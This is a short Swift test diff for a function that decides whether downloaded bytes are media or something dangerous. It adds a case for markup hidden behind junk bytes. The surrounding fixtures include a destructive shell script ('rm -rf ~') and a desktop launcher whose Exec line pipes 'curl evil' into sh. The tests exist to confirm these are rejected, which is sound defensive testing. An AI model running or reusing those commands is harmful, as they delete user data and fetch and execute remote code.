@@ -27,6 +27,8 @@ import Testing
         let utf16BEWithoutMark: [UInt8] = page.flatMap { [UInt8(0), $0] }
         #expect(isNotMedia(verdict(utf16BEWithoutMark)))
         #expect(isNotMedia(verdict(Array("#!/bin/sh\nrm -rf ~\n".utf8))))
+        let behindJunk: [UInt8] = Array("X".utf8) + Array(repeating: 0, count: 7) + page + Array(repeating: 0x20, count: 600)
+        #expect(isNotMedia(verdict(behindJunk)), "markup a few bytes in is a page to xdg-open")
         #expect(verdict(Array("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n".utf8))
                 == .notMedia("the server answered with a desktop entry (a launcher), not media"))
         #expect(isNotMedia(verdict(Array(#"{"error": "expired"}"#.utf8) + [0x1B])))
